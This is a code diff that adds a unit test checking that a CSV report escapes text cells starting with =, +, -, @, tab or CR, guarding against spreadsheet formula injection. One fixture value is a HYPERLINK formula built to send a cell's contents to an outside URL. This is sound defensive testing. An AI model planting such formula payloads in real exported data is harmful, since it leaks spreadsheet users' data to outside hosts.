@@ -70,6 +70,21 @@ def test_report_csv_has_a_row_per_metric_and_variation(counts: Counts) -> None:
     assert rows[5]["metric"] == "purchase:revenue" and rows[5]["revenue"] == "910"
 
 
+def test_report_csv_text_cells_never_start_a_formula(counts: Counts) -> None:
+    """Attribute values come from anyone who can send events: opened in a spreadsheet, a cell
+    starting with = + - @ (or a tab or CR) would be a formula. Such cells get a leading '."""
+    arms = (Arm("301", "=1+1", 5000), Arm("302", "treatment", 5000))
+    doc = build_results(SPEC, arms, counts)
+    segments = ['=HYPERLINK("http://example.com/?"&A1,"x")', "+1", "-1", "@SUM(A1)", "\tx", "DE"]
+    doc["segment"] = "country"
+    doc["segments"] = [{"value": v, **build_results(SPEC, arms, counts)} for v in segments]
+    rows = list(csv.DictReader(io.StringIO(results_csv(doc))))
+    values = [row["segment_value"] for row in rows if row["segment"]][:: len(SPEC.metrics) * 2]
+    assert values == ["'" + v for v in segments[:-1]] + ["DE"]
+    assert {row["variation"] for row in rows} == {"'=1+1", "treatment"}
+    assert rows[0]["segment_value"] == "" and rows[0]["visitors"].isdigit()  # numbers as they are
+
+
 def test_report_flags_a_sample_ratio_mismatch(counts: Counts) -> None:
     skewed = (Arm("301", "control", 9999), Arm("302", "treatment", 1))
     doc = build_results(SPEC, skewed, counts)
